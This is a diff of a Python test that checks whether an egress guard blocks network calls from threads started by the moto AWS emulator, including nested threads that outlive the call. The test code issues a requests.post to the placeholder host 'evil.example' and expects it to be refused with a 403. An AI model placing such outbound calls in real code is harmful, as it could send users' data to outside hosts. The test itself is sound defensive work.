@@ -170,15 +170,27 @@ def test_containers_run_where_functions_may():
         _ = DockerModel().docker_client
 
 
-def test_a_process_that_serves_guards_all_threads(monkeypatch, sent):
-    """Also those that moto starts itself, which no context reaches."""
-    monkeypatch.setattr(calls_out, "_of_process", [])
+def test_threads_of_moto_are_guarded(sent):
+    """Also those that moto starts, and those that they start, though they go on when the call has been answered."""
     calls_out.apply()
-    Emulator().aws.guard_process()
-    code = compile("import requests\nanswer = requests.post('http://evil.example/')", "moto", "exec")
+    source = """
+import requests, threading
+def begin(released, answers):
+    def call():
+        released.wait(5)
+        answers.append(requests.post("http://evil.example/"))
+    outer = threading.Thread(target=lambda: (inner.start(), inner.join()))
+    inner = threading.Thread(target=call)
+    outer.start()
+    return outer
+"""
     space = {"__name__": "moto.made_up.models"}
-    thread = threading.Thread(target=exec, args=(code, space))
-    thread.start()
+    exec(compile(source, "moto", "exec"), space)
+    released, answers = threading.Event(), []
+
+    with Emulator().aws.calling_moto():
+        thread = space["begin"](released, answers)
+    released.set()
     thread.join()
 
-    assert (403, []) == (space["answer"].status_code, sent)
+    assert ([403], []) == ([answer.status_code for answer in answers], sent)
